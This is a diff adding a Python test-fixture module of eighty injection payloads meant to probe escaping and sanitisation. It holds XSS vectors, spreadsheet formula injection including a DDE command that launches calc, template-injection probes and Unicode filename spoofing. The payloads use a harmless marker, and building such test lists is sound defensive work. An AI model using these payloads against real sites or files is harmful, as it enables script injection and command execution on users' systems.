@@ -1,0 +1,98 @@
+"""Eighty texts that try to become something else: a script, an attribute, a formula, a template, another line."""
+
+from __future__ import annotations
+
+_RUN = "window.ran=1"
+SCRIPTS = [
+    f"<script>{_RUN}</script>",
+    f"<ScRiPt >{_RUN}</sCrIpT>",
+    f"</script><script>{_RUN}</script>",
+    f"</style><script>{_RUN}</script>",
+    f"</title><script>{_RUN}</script>",
+    f"</textarea><script>{_RUN}</script>",
+    f"--><script>{_RUN}</script>",
+    f"]]><script>{_RUN}</script>",
+    f"<<script>{_RUN}//<</script>",
+    f"<script/x>{_RUN}</script>",
+    f"<script\n>{_RUN}</script\n>",
+    "<script src=//example.org/x.js></script>",
+    "<script src=data:text/javascript,window.ran=1></script>",
+    f"<svg><script>{_RUN}</script></svg>",
+    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
+    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
+]
+HANDLERS = [
+    f"<img src=x onerror={_RUN}>",
+    f"<img/src=x/onerror={_RUN}>",
+    f'"><img src=x onerror={_RUN}>',
+    f"'><img src=x onerror={_RUN}>",
+    f'" onmouseover="{_RUN}" x="',
+    f"' onmouseover='{_RUN}' x='",
+    f'" autofocus onfocus="{_RUN}',
+    f"` onerror=`{_RUN}",
+    f"<svg onload={_RUN}>",
+    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
+    f"<body onload={_RUN}>",
+    f"<details open ontoggle={_RUN}>",
+    f"<video><source onerror={_RUN}>",
+    f"<audio src onerror={_RUN}>",
+    f"<input autofocus onfocus={_RUN}>",
+    f"<marquee onstart={_RUN}>",
+    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
+    f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
+    f"<embed src='data:text/html,<script>{_RUN}</script>'>",
+    f"<style>@import 'data:text/css,*{{}}'</style><p style='x:expression({_RUN})'>",
+    "<link rel=stylesheet href='data:text/css,*{display:none}'>",
+    "<meta http-equiv=refresh content='0;url=javascript:window.ran=1'>",
+    "<base href='https://example.org/'>",
+    f"<form action=javascript:{_RUN}><button>x</button></form>",
+]
+ADDRESSES = [
+    f"javascript:{_RUN}",
+    f"JaVaScRiPt:{_RUN}",
+    f" javascript:{_RUN}",
+    f"java\tscript:{_RUN}",
+    f"java\nscript:{_RUN}",
+    f"javascript&colon;{_RUN}",
+    f"&#106;avascript:{_RUN}",
+    f"javascript://%0a{_RUN}",
+    f"data:text/html,<script>{_RUN}</script>",
+    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
+    f"vbscript:{_RUN}",
+    f"<a href=javascript:{_RUN}>x</a>",
+    f"[x](javascript:{_RUN})",
+    f"![x](x){{onerror={_RUN}}}",
+]
+FORMULAS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://example.org","x")',
+    '=IMPORTXML(CONCAT("http://example.org/"))',
+    "＝1+1",
+    " =1+1",
+]
+TEMPLATES = [
+    "{{ 7 * 7 }}",
+    "{% for x in range(9) %}{{ x }}{% endfor %}",
+    "{{ ''.__class__.__mro__ }}",
+    "{% raw %}",
+    "{# comment",
+    "${window.ran=1}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "| a | b |\n|---|---|",
+    "---\nlicense: mit\n---",
+    '", "x": "',
+    "```\n# no",
+]
+UNICODE = [
+    "\u202egnp.exe",
+    "a\u2028<script>window.ran=1</script>",
+    "\u0000<script>window.ran=1</script>",
+]
+PAYLOADS = [*SCRIPTS, *HANDLERS, *ADDRESSES, *FORMULAS, *TEMPLATES, *UNICODE]
